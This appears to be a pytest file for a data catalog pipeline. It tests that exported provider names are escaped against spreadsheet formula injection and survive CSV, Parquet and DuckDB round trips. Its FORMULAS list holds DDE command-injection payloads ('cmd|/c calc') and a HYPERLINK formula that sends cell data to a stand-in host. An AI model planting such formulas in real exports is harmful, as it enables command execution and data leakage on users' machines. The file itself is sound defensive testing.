import csv
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from table_rows import plain_row

from pipeline.catalog.publish import write_build
from pipeline.catalog.spreadsheet import cell
from pipeline.catalog.validate import check_tables
from schemas import TABLES

FORMULAS = [
    *(f"{start}cmd|'/c calc'!A1" for start in "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"),
    '=HYPERLINK("https://x.test?"&A1,"open")',
    "-1+1",
    "+49 30 1234",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=",
    *(f"{blank}=1" for blank in (" ", "\ufeff", "\u00a0", "\u3000", "\ufeff  ", "  \ufeff\t")),
]
STRINGS = [
    "NA",
    "N/A",
    "null",
    "None",
    "NaN",
    "nan",
    "TRUE",
    "false",
    "007",
    "1e5",
    "1_000",
    "0x10",
    "2026-07-01",
    "[]",
]
MARKS = [
    "carriage\rreturn",
    "ends in return\r",
    "line\nfeed",
    "both\r\n",
    'a "quoted" name',
    '"',
    '""',
    "comma, comma",
    ",",
    "\ufeffBOM first",
    "semi;colon",
    "back\\slash",
    " spaces ",
    "'apostrophe",
    "nul \0 inside",
    "\u2028 separator",
    "\u202e bidi",
    "emoji 😀 and combining e\u0301",
]
NAMES = [*FORMULAS, *STRINGS, *MARKS]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-1, "-1"),
        (10**12, "1000000000000"),
        (datetime(2026, 7, 1), "2026-07-01T00:00:00Z"),  # noqa: DTZ001 - as published
        (pd.Timestamp(2026, 7, 1, 12, 30, 5), "2026-07-01T12:30:05Z"),
        (datetime(2026, 7, 1, 0, 0, 0, 5), "2026-07-01T00:00:00.000005Z"),  # noqa: DTZ001
        ([], "[]"),
        (["a", 'b"', "=1", "é"], '["a", "b\\"", "=1", "é"]'),
        ("a=1", "a=1"),
        (" a=1", " a=1"),
    ],
    ids=repr,
)
def test_a_value_becomes_the_cell_that_stands_for_it(value: object, expected: str) -> None:
    assert expected == cell(value)


@pytest.mark.fault("Q01")
@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_q01_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert f"'{text}" == cell(text)


@pytest.mark.fault("D08", "Q02")
@pytest.mark.parametrize("text", STRINGS + MARKS, ids=repr)
def test_all_other_text_stays_as_it_is(text: str) -> None:
    assert text == cell(text)


def write_names(folder: Path, names: list[str]) -> Path:
    """Write a build whose providers go by the names given, in their order."""
    rows = [
        plain_row("providers", offering_id=f"p{number:04}", provider_name=name, names=[name], slugs=[])
        for number, name in enumerate(names)
    ]
    frames = check_tables({name: rows if name == "providers" else [] for name in TABLES})
    write_build(folder, frames, build_key="0" * 64, as_of=datetime(2026, 7, 1, tzinfo=UTC))
    return folder


@pytest.fixture(scope="module")
def build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_names(tmp_path_factory.mktemp("names") / "build", NAMES)


@pytest.fixture(scope="module")
def connection() -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect() as memory:
        yield memory


def read_csv_module(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [row["provider_name"] for row in csv.DictReader(file, strict=True)]


def read_csv_pandas(path: Path) -> list[str]:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return [str(name) for name in frame["provider_name"]]


def read_csv_duckdb(path: Path, connection: duckdb.DuckDBPyConnection) -> list[str]:
    sql = (
        "SELECT provider_name FROM read_csv(?, header = true, all_varchar = true, delim = ',', quote = '\"', "
        "escape = '\"', new_line = '\\r\\n') ORDER BY offering_id"
    )
    return [name for (name,) in connection.execute(sql, [str(path)]).fetchall()]


def in_csv(names: list[str]) -> list[str]:
    return [cell(name) for name in names]


@pytest.mark.fault("D08", "Q01", "Q02")
def test_names_in_csv_read_back_with_the_csv_module(build: Path) -> None:
    assert in_csv(NAMES) == read_csv_module(build / "csv" / "providers.csv")


@pytest.mark.fault("D08", "Q01", "Q02")
def test_names_in_csv_read_back_with_pandas(build: Path) -> None:
    assert in_csv(NAMES) == read_csv_pandas(build / "csv" / "providers.csv")


@pytest.mark.fault("D08", "Q01", "Q02")
def test_names_in_csv_read_back_with_duckdb(build: Path, connection: duckdb.DuckDBPyConnection) -> None:
    assert in_csv(NAMES) == read_csv_duckdb(build / "csv" / "providers.csv", connection)


@pytest.mark.fault("D08", "Q01", "Q02")
def test_names_in_parquet_are_raw(build: Path, connection: duckdb.DuckDBPyConnection) -> None:
    sql = "SELECT provider_name, names FROM read_parquet(?) ORDER BY offering_id"
    cursor = connection.execute(sql, [str(build / "parquet" / "providers.parquet")])
    assert [(name, [name]) for name in NAMES] == cursor.fetchall()


@pytest.mark.fault("D08")
def test_d08_names_in_a_frame_read_from_parquet_stay_strings(
    build: Path, connection: duckdb.DuckDBPyConnection
) -> None:
    sql = "SELECT provider_name FROM read_parquet(?) ORDER BY offering_id"
    frame = connection.execute(sql, [str(build / "parquet" / "providers.parquet")]).df()
    assert NAMES == frame["provider_name"].tolist()


@pytest.mark.fault("D08", "Q01", "Q02")
def test_names_in_the_database_are_raw(build: Path) -> None:
    with duckdb.connect(str(build / "catalog.duckdb"), read_only=True) as catalog:
        cursor = catalog.execute("SELECT provider_name, names FROM providers ORDER BY offering_id")
        assert [(name, [name]) for name in NAMES] == cursor.fetchall()


@pytest.mark.fault("Q02")
def test_q02_records_end_in_crlf_and_the_file_starts_with_no_byte_order_mark(build: Path) -> None:
    for path in sorted((build / "csv").iterdir()):
        body = path.read_bytes()
        assert body.endswith(b"\r\n")
        assert body.startswith(next(iter(TABLES[path.stem].columns)).encode() + b",")


@pytest.mark.fault("Q02")
def test_q02_lists_in_csv_are_json(build: Path) -> None:
    with (build / "csv" / "providers.csv").open(encoding="utf-8", newline="") as file:
        assert [[name] for name in NAMES] == [json.loads(row["names"]) for row in csv.DictReader(file)]


@pytest.mark.fault("E08", "Q01")
def test_e08_naughty_strings_and_payloads_survive_every_output(
    shared: Path, tmp_path: Path, connection: duckdb.DuckDBPyConnection
) -> None:
    suites = shared / "data" / "suites"
    blns = json.loads(next((suites / "blns").rglob("blns.json")).read_bytes())
    lines = [
        line
        for path in sorted((suites / "csv-injection-payloads").rglob("*"))
        if path.is_file()
        for line in path.read_text(errors="replace").splitlines()
    ]
    names = [text for text in [*blns, *lines] if 0 < len(text) <= 200]
    assert len(names) > 400
    build = write_names(tmp_path / "build", names)
    path = build / "csv" / "providers.csv"
    assert in_csv(names) == read_csv_module(path)
    assert in_csv(names) == read_csv_pandas(path)
    assert in_csv(names) == read_csv_duckdb(path, connection)
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in read_csv_module(path))
    sql = "SELECT provider_name FROM read_parquet(?) ORDER BY offering_id"
    found = connection.execute(sql, [str(build / "parquet" / "providers.parquet")]).fetchall()
    assert [(name,) for name in names] == found
